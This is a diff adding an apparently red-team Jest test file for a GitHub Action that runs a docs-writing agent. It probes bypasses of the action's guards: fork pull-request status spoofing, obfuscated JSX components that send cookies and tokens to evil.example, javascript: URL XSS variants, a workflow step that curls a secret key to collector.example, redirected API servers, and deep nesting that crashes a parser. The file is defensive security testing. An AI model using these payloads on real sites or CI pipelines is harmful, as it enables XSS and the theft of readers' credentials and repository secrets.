@@ -1,0 +1,541 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, test } from '@jest/globals'
+import { runStep, type StepOptions } from '../../../emulator/action-runner.ts'
+import { playWorkflow } from '../../../emulator/workflow-runner.ts'
+import type { Emulator } from '../../../emulator/server.ts'
+import { byUser, eventEnv, payload, payloadLabel, REPOSITORY } from '../../../emulator/webhooks.ts'
+import type { PullChangeFile } from '../../../emulator/pull-changes.ts'
+import { API_KEY, ROOT, runAgent, runCheck, withEmulator } from '../harness.js'
+
+/**
+ * The red team's attacks on the merged release candidate of issue #52, through the bundles
+ * against the emulator. Each test states what SHOULD hold; each is marked `failing` because the
+ * bundle of this branch does not hold it yet (the report says why, and where).
+ */
+// REDTEAM_SHOW=1 runs them as plain tests, to see each fail where it should.
+const failing = process.env.REDTEAM_SHOW === '1' ? test.concurrent : test.concurrent.failing
+
+type Payload = Record<string, any>
+
+// ---------------------------------------------------------------------------------------------
+// 1. docs-status: a followed pull request's unapproved head shows a "Not followed" success
+// ---------------------------------------------------------------------------------------------
+
+const OUTSIDER = 'mallory'
+const FORK = 'mallory/docs'
+const LABEL = 'needs-docs'
+const [BASE, H1, H2, H3] = ['0', '1', '2', '3'].map((n) => n.repeat(40)) as [
+  string,
+  string,
+  string,
+  string,
+]
+const LABELLED = { 'follow-code-changes': 'true', 'docs-status': 'docs', 'label-trigger': LABEL }
+
+function changed(filename: string, patch: string) {
+  return {
+    filename,
+    status: 'modified',
+    additions: 1,
+    deletions: 0,
+    patch: `@@ -1 +1,2 @@\n${patch}`,
+  }
+}
+
+/** The outsider's fork pull request (its number), at H1. */
+function outsidersPull(emulator: Emulator): number {
+  const pull = emulator.github.addIssue(REPOSITORY, {
+    title: 'Add --fast',
+    body: 'Adds a flag.',
+    pullRequest: true,
+    user: { login: OUTSIDER, type: 'User' },
+  })
+  emulator.github.pullFiles.set(`${REPOSITORY}#${pull.number}`, [
+    changed('src/cli.ts', '+  fast: true'),
+  ])
+  emulator.github.commits.seed({
+    commits: [
+      { sha: BASE, author: 'octocat' },
+      { sha: H1, files: [changed('src/cli.ts', '+  fast: true')], author: OUTSIDER },
+    ],
+  })
+  return pull.number
+}
+
+/** A pull_request_target event of the outsider's fork pull request `number`, sent by `sender`. */
+function pullEvent(
+  number: number,
+  action: string,
+  sender: string,
+  { head = H1, edit = (_: Payload): void => undefined } = {},
+): Payload {
+  return byUser(
+    payload('pull_request', action, (p) => {
+      Object.assign(p.pull_request, {
+        number,
+        html_url: `https://github.com/${REPOSITORY}/pull/${number}`,
+        draft: false,
+        author_association: 'CONTRIBUTOR',
+        labels: [payloadLabel(LABEL)],
+        updated_at: new Date(Date.now() - 5000).toISOString().replace(/\.\d+Z$/, 'Z'),
+      })
+      p.number = number
+      p.pull_request.user.login = OUTSIDER
+      p.pull_request.head.sha = head
+      p.pull_request.head.repo.full_name = FORK
+      p.pull_request.head.repo.fork = true
+      p.pull_request.base.sha = BASE
+      if (action === 'labeled') p.label = payloadLabel(LABEL)
+      edit(p)
+    }),
+    sender,
+  )
+}
+
+const pushEvent = (number: number, sender: string, before: string, after: string) =>
+  pullEvent(number, 'synchronize', sender, {
+    head: after,
+    edit: (p) => Object.assign(p, { before, after }),
+  })
+
+const runFor = (emulator: Emulator, body: Payload, runId: string) =>
+  runAgent(emulator, LABELLED, eventEnv('pull_request_target', body, { GITHUB_RUN_ID: runId }))
+
+/** The docs statuses of a commit, oldest first, as "state: description". */
+const docsStatuses = (emulator: Emulator, sha: string) =>
+  emulator.github.commits
+    .statusesOf(REPOSITORY, sha)
+    .filter((s) => s.context === 'docs')
+    .reverse()
+    .map((s) => `${s.state}: ${s.description ?? ''}`)
+
+/** A writer adds the label at H1: the outsider's pull request is followed, its job started. */
+async function followedAtH1(emulator: Emulator, number: number): Promise<void> {
+  const labelled = await runFor(emulator, pullEvent(number, 'labeled', 'writer'), '801')
+  expect(labelled.code).toBe(0)
+  expect(emulator.agent.jobs.size).toBe(1)
+  expect(docsStatuses(emulator, H1).at(-1)).toMatch(/^(pending|success): /)
+}
+
+describe('redteam 1: a followed pull request’s unapproved head never shows docs success', () => {
+  failing(
+    'the outsider closes the followed pull request, adds a commit, reopens it: the new head gets "Not followed" success',
+    async () => {
+      await withEmulator({}, async (emulator) => {
+        const number = outsidersPull(emulator)
+        await followedAtH1(emulator, number)
+        // While it is closed GitHub sends no synchronize; the reopen names the new head.
+        emulator.github.commits.seed({
+          parent: H1,
+          commits: [{ sha: H2, files: [changed('src/evil.ts', '+MALLORY')], author: OUTSIDER }],
+        })
+        const reopened = pullEvent(number, 'reopened', OUTSIDER, { head: H2 })
+        const run = await runFor(emulator, reopened, '802')
+        expect(run.outputs.status).toBe('skipped')
+        // Nothing of H2 was sent, and nobody approved it: its docs are not done.
+        expect(emulator.agent.jobs.size).toBe(1)
+        expect(docsStatuses(emulator, H2).at(-1) ?? '').not.toMatch(/^success/)
+      })
+    },
+  )
+
+  failing(
+    'two quick pushes under the example’s concurrency group (the middle run cancelled): the last head gets "Not followed" success',
+    async () => {
+      await withEmulator({}, async (emulator) => {
+        const number = outsidersPull(emulator)
+        await followedAtH1(emulator, number)
+        emulator.github.commits.seed({
+          parent: H1,
+          commits: [
+            { sha: H2, files: [changed('src/a.ts', '+MALLORY-A')], author: OUTSIDER },
+            { sha: H3, files: [changed('src/b.ts', '+MALLORY-B')], author: OUTSIDER },
+          ],
+        })
+        // H1..H2's run waited in the group and was cancelled by H2..H3's: it never ran.
+        const run = await runFor(emulator, pushEvent(number, OUTSIDER, H2, H3), '803')
+        expect(run.outputs.status).toBe('skipped')
+        expect(emulator.agent.jobs.size).toBe(1)
+        expect(docsStatuses(emulator, H3).at(-1) ?? '').not.toMatch(/^success/)
+      })
+    },
+  )
+
+  failing(
+    'a second fork pull request opened first at the commit the outsider then pushes: the followed head keeps that pull request’s pass',
+    async () => {
+      await withEmulator({}, async (emulator) => {
+        const number = outsidersPull(emulator)
+        emulator.github.pullCommits.push(REPOSITORY, number, [H1])
+        await followedAtH1(emulator, number)
+        emulator.github.commits.seed({
+          parent: H1,
+          commits: [{ sha: H2, files: [changed('src/evil.ts', '+MALLORY')], author: OUTSIDER }],
+        })
+        // A decoy: another fork pull request of the outsider's at H2, opened first, not labelled.
+        const decoy = emulator.github.addIssue(REPOSITORY, {
+          title: 'Decoy',
+          pullRequest: true,
+          user: { login: OUTSIDER, type: 'User' },
+        }).number
+        emulator.github.pullCommits.openAt(REPOSITORY, decoy, H2)
+        const opened = pullEvent(decoy, 'opened', OUTSIDER, {
+          head: H2,
+          edit: (p) => {
+            p.pull_request.labels = []
+          },
+        })
+        await runFor(emulator, opened, '804')
+        expect(docsStatuses(emulator, H2)).toEqual([
+          `success: Not followed: no label '${LABEL}' (label-trigger)`,
+        ])
+        // Then the push to the followed pull request: its head is H2 too.
+        emulator.github.pullCommits.push(REPOSITORY, number, [H2])
+        const run = await runFor(emulator, pushEvent(number, OUTSIDER, H1, H2), '805')
+        expect(run.outputs.status).toBe('skipped')
+        expect(emulator.agent.jobs.size).toBe(1)
+        expect(docsStatuses(emulator, H2).at(-1) ?? '').not.toMatch(/^success/)
+      })
+    },
+  )
+})
+
+// ---------------------------------------------------------------------------------------------
+// 2-4. The change check, as the docs repository's required check (the check action's bundle)
+// ---------------------------------------------------------------------------------------------
+
+const AGENT = { login: 'mintlify[bot]', type: 'Bot' as const }
+const PAGE_BASE = '---\ntitle: Quickstart\n---\n\n# Quickstart\n\nInstall the SDK.\n'
+
+/** The agent's pull request in acme/docs with `files` as its change, and its event. */
+function agentPull(emulator: Emulator, files: PullChangeFile[]) {
+  const issue = emulator.github.addIssue('acme/docs', {
+    title: 'Docs',
+    pullRequest: true,
+    user: AGENT,
+  })
+  const ends = emulator.github.seedPullChange({ number: issue.number, files })
+  const body = payload('pull_request', 'opened', (p) => {
+    p.number = issue.number
+    p.pull_request.number = issue.number
+    p.pull_request.user.login = AGENT.login
+    p.pull_request.user.type = AGENT.type
+    p.pull_request.head.sha = ends.headSha
+    p.pull_request.base.sha = ends.baseSha
+  })
+  return { number: issue.number, ...ends, env: eventEnv('pull_request_target', body) }
+}
+
+/** The docs-agent/changes statuses written, as `[state, description]`. */
+const changesStatuses = (emulator: Emulator) =>
+  emulator.github.commits.statuses
+    .filter((s) => s.context === 'docs-agent/changes')
+    .map((s) => [s.state, s.description])
+
+const SNIPPETS = { 'allowed-paths': 'defaults\nsnippets/**/*.jsx' }
+
+describe('redteam 2: a component the team allows runs what the check promises to find', () => {
+  failing.each([
+    [
+      'a remote script whose tag name is put together at run time',
+      [
+        'export const Analytics = () => {',
+        "  const s = document.createElement('scr' + 'ipt')",
+        "  s.src = 'https://evil.example/track.js'",
+        '  document.head.appendChild(s)',
+        '  return null',
+        '}',
+      ],
+    ],
+    [
+      "the reader's cookies sent through aliases of document and fetch",
+      [
+        'export const Beacon = () => {',
+        '  const d = document',
+        '  const send = fetch',
+        "  send('https://evil.example/c?' + d.cookie)",
+        '  return null',
+        '}',
+      ],
+    ],
+    [
+      'eval taken out of window by destructuring',
+      [
+        'export const Run = ({ code }) => {',
+        '  const { eval: run } = window',
+        "  run(atob('ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlIik='))",
+        '  return null',
+        '}',
+      ],
+    ],
+    [
+      'the Function constructor through an alias',
+      [
+        'export const Run = () => {',
+        '  const F = [].constructor.constructor',
+        "  F('return fetch(\\'https://evil.example/\\' + localStorage.token)')()",
+        '  return null',
+        '}',
+      ],
+    ],
+    [
+      "readers' storage sent as an image's address",
+      [
+        'export const Pixel = () => {',
+        "  new Image().src = 'https://evil.example/p?t=' + localStorage.getItem('session')",
+        '  return null',
+        '}',
+      ],
+    ],
+  ])('%s: blocked', (_, lines) => {
+    return withEmulator({}, async (emulator) => {
+      const pull = agentPull(emulator, [
+        { path: 'snippets/widget.jsx', head: `${lines.join('\n')}\n` },
+      ])
+      const run = await runCheck(emulator, SNIPPETS, pull.env)
+      expect(run.outputs['change-check']).toBe('blocked')
+      expect(changesStatuses(emulator)[0]?.[0]).toBe('failure')
+    })
+  })
+})
+
+describe('redteam 3: a javascript: URL in a page, given by an expression the check lets through', () => {
+  failing.each([
+    [
+      'an exported string',
+      "export const docs = 'javascript:fetch(`//evil.example/`+document.cookie)'\n\n<a href={docs}>Open the docs</a>\n",
+    ],
+    ['a concatenation', "<a href={'java' + 'script:alert(document.domain)'}>Open</a>\n"],
+    [
+      'a template with a placeholder',
+      '<a href={`java${"script"}:alert(document.domain)`}>Open</a>\n',
+    ],
+    [
+      'a conditional',
+      "<Card title=\"Start\" href={true ? 'javascript:alert(document.domain)' : ''}>Go</Card>\n",
+    ],
+    ['an array element', "<a href={['javascript:alert(document.domain)'][0]}>Open</a>\n"],
+  ])('%s: blocked, as the string itself is', (_, added) => {
+    return withEmulator({}, async (emulator) => {
+      const pull = agentPull(emulator, [
+        { path: 'guides/quickstart.mdx', base: PAGE_BASE, head: `${PAGE_BASE}\n${added}` },
+      ])
+      const run = await runCheck(emulator, {}, pull.env)
+      expect(run.outputs['change-check']).toBe('blocked')
+      expect(changesStatuses(emulator)[0]?.[0]).toBe('failure')
+    })
+  })
+})
+
+describe('redteam 4: a key of the change quoted back', () => {
+  /** An AWS secret access key (AWS's documented example, its slashes taken out). */
+  const SECRET = 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYab'
+  failing(
+    'one a page past 128 KiB holds (unparsed, so its keys are never collected) is quoted by a finding of another page',
+    async () => {
+      await withEmulator({}, async (emulator) => {
+        const config = `aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = ${SECRET}\n`
+        const big = `${PAGE_BASE}\n\`\`\`ini\n${config}\`\`\`\n\n${'Filler text of a long page.\n'.repeat(6000)}`
+        const pull = agentPull(emulator, [
+          { path: 'guides/credentials.mdx', base: PAGE_BASE, head: big },
+          { path: 'guides/quickstart.mdx', base: PAGE_BASE, head: `${PAGE_BASE}\n{${SECRET}}\n` },
+        ])
+        const run = await runCheck(emulator, {}, pull.env)
+        expect(run.outputs['change-check']).toBe('blocked')
+        const shown = JSON.stringify([
+          run.outputs,
+          run.summary,
+          run.stdout,
+          emulator.github.commits.statuses,
+        ])
+        expect(shown).not.toContain(SECRET)
+      })
+    },
+  )
+})
+
+describe('redteam 5: bounded work before any role check', () => {
+  const N = 65_536
+  const fill = (unit: string): string => unit.repeat(Math.ceil(N / unit.length)).slice(0, N)
+  /** How many inline comments the outsider's review holds (GitHub caps none; the action reads 300). */
+  const COMMENTS = 48
+
+  /** An outsider's review of pull request #2: `body`, and COMMENTS inline comments of `inline`. */
+  function outsidersReview(emulator: Emulator, body: string, inline: string) {
+    const user = { login: 'stranger', type: 'User' as const }
+    const at = { path: 'README.md', line: 1, diffHunk: '@@ -1 +1 @@\n-# Docs\n+# The docs' }
+    const review = emulator.github.addReview(REPOSITORY, 2, {
+      body,
+      user,
+      comments: Array.from({ length: COMMENTS }, () => ({ body: inline, ...at })),
+    })
+    const event = payload('pull_request_review', 'submitted', (p) => {
+      p.review.id = review.id
+      p.review.body = body
+      p.review.user.login = user.login
+    })
+    return eventEnv('pull_request_review', byUser(event, user.login))
+  }
+
+  failing(
+    "an outsider's review without the phrase whose inline comments are built to be slow: read, every one, before the reviewer's role is asked",
+    async () => {
+      await withEmulator({}, async (emulator) => {
+        // The yardstick: the same review with plain inline comments, refused the same way.
+        const plain = await runAgent(
+          emulator,
+          {},
+          outsidersReview(emulator, 'Looks good.', `Some words ${fill('a ')}`.slice(0, N)),
+          { timeoutMs: 300_000 },
+        )
+        expect(plain.outputs.status).toBe('skipped')
+        const slow = await runAgent(
+          emulator,
+          {},
+          outsidersReview(
+            emulator,
+            'Looks good.',
+            `Some words &amp;\n\n${fill('www.a_')}`.slice(0, N),
+          ),
+          { timeoutMs: 300_000 },
+        )
+        expect(slow.code).toBe(0)
+        expect(emulator.agent.jobs.size).toBe(0)
+        console.log(`plain ${plain.durationMs} ms, slow ${slow.durationMs} ms`)
+        // As bounds.test.ts holds a single comment: a few times the plain one's, never minutes.
+        expect(slow.durationMs).toBeLessThan(4 * plain.durationMs + 5_000)
+      })
+    },
+    600_000,
+  )
+})
+
+describe("redteam 6: the agent's branch runs its own workflow, with our secrets, on an outsider's review", () => {
+  failing(
+    "comment-trigger.yml edited on the agent's branch: a stranger's review of the agent's pull request runs the edit with the key",
+    async () => {
+      await withEmulator({}, async (emulator) => {
+        const file = 'comment-trigger.yml'
+        const path = `.github/workflows/${file}`
+        const committed = readFileSync(join(ROOT, 'examples', file), 'utf8')
+        const edited = `${committed}      - name: Send the key away
+        env:
+          KEY: \${{ secrets.DOCS_AGENT_API_KEY }}
+        run: curl -sd "$KEY" https://collector.example
+`
+        const ends = emulator.github.seedPullChange({
+          number: 101,
+          files: [{ path, base: committed, head: edited }],
+        })
+        // Anyone may review a public repository's pull request: no role, no approval.
+        const review = byUser(
+          payload('pull_request_review', 'submitted', (p) => {
+            p.review.body = 'Nice.'
+            p.pull_request.number = 101
+            p.pull_request.head.sha = ends.headSha
+            p.pull_request.base.sha = ends.baseSha
+            p.pull_request.user.login = 'mintlify[bot]'
+            p.pull_request.user.type = 'Bot'
+          }),
+          'stranger',
+        )
+        const played = await playWorkflow({
+          file: join(ROOT, 'examples', file),
+          root: ROOT,
+          apiUrl: emulator.url,
+          github: emulator.github,
+          pollInterval: '0.1',
+          secrets: { DOCS_AGENT_API_KEY: API_KEY },
+          vars: { DOCS_PROJECT_ID: 'proj' },
+          event: { name: 'pull_request_review', payload: review },
+          runStep: (options: StepOptions) => runStep({ ...options, shortRetryWaits: true }),
+        })
+        const takers = played.steps
+          .filter((step) => step.run === undefined && JSON.stringify(step.env).includes(API_KEY))
+          .map((step) => step.name)
+        expect({ started: played.started, from: played.from.what, takers }).toEqual({
+          started: true,
+          from: 'the default branch',
+          takers: [],
+        })
+      })
+    },
+  )
+})
+
+describe("redteam 7: settings that send readers' requests, and their credentials, to a new host", () => {
+  const CONFIG = (api: Record<string, unknown>) =>
+    `${JSON.stringify(
+      { name: 'Acme', navigation: { groups: [{ group: 'API', pages: ['index'] }] }, api },
+      null,
+      2,
+    )}\n`
+  const SPEC = (server: string) =>
+    `openapi: 3.0.0\ninfo:\n  title: Acme\n  version: 1.0.0\nservers:\n  - url: ${server}\npaths: {}\n`
+
+  failing.each([
+    [
+      "the OpenAPI file's server, where the API playground sends what readers type (their API keys)",
+      [
+        {
+          path: 'api/openapi.yaml',
+          base: SPEC('https://api.acme.com'),
+          head: SPEC('https://api.evil.example'),
+        },
+      ],
+    ],
+    [
+      "docs.json's API server, the same for MDX API pages",
+      [
+        {
+          path: 'docs.json',
+          base: CONFIG({ mdx: { server: 'https://api.acme.com' } }),
+          head: CONFIG({ mdx: { server: 'https://api.evil.example' } }),
+        },
+      ],
+    ],
+    [
+      "docs.json's OpenAPI spec taken from another host (every API page's words, unchecked)",
+      [
+        {
+          path: 'docs.json',
+          base: CONFIG({ mdx: { server: 'https://api.acme.com' } }),
+          head: CONFIG({
+            openapi: 'https://evil.example/openapi.json',
+            mdx: { server: 'https://api.acme.com' },
+          }),
+        },
+      ],
+    ],
+  ])('%s: not "Nothing beyond docs text"', (_, files) => {
+    return withEmulator({}, async (emulator) => {
+      const pull = agentPull(emulator, files)
+      const run = await runCheck(emulator, {}, pull.env)
+      expect(run.outputs['change-check']).not.toBe('passed')
+      expect(run.outputs['change-findings']).toContain('evil.example')
+    })
+  })
+})
+
+describe('redteam 8: a docs config nested deep crashes the judge', () => {
+  failing(
+    'docs.json nested 5,000 deep: a finding (unchecked), not a failed step whose every re-run fails the same',
+    async () => {
+      await withEmulator({}, async (emulator) => {
+        const nested = `${'['.repeat(5000)}1${']'.repeat(5000)}`
+        const pull = agentPull(emulator, [
+          {
+            path: 'docs.json',
+            base: '{ "name": "Acme" }\n',
+            head: `{ "name": "Acme", "navigation": ${nested} }\n`,
+          },
+        ])
+        const run = await runCheck(emulator, {}, pull.env)
+        expect(run.code).toBe(0)
+        expect(run.outputs['change-check']).toBe('blocked')
+        expect(changesStatuses(emulator)).toEqual([['failure', expect.any(String)]])
+      })
+    },
+  )
+})
